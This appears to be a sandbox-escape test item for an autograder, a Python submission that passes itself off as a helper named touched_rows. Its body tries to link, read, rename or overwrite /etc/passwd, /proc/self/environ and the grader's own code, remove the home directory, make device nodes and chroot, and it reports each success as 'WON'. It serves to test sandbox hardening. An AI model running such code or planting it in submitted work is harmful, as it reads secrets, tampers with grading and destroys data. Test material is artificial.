# attack: reaches outside through symbolic links, hard links and renames
# class: A7
# laid over: reference
# may score: 33

import os
import stat
import sys

def tried(name, action):
    """Say WON if something succeeds that must not."""
    try:
        print("WON", name, str(action())[:200])
    except BaseException:
        pass


def touched_rows(ids, vocab_size, padding_idx=None):
    for target in ("/etc/passwd", "/proc/self/environ", "/", sys.modules["autograder.worker"].__path__[0]):
        tried(target, lambda: os.symlink(target, "link"))
        tried(target, lambda: open("link").read())
        tried(target, lambda: os.link(target, "hard"))
        tried(target, lambda: os.rename(target, "moved"))
        tried(target, lambda: os.replace("own", target))
    tried("away", lambda: os.rename(os.environ["HOME"], os.environ["HOME"] + "-away"))
    tried("gone", lambda: os.rmdir(os.environ["HOME"]))
    tried("fifo", lambda: os.mkfifo("fifo"))
    tried("node", lambda: os.mknod("node", 0o600 | stat.S_IFBLK, os.makedev(8, 0)))
    tried("root", lambda: os.chroot("/"))
    raise LookupError("nothing")
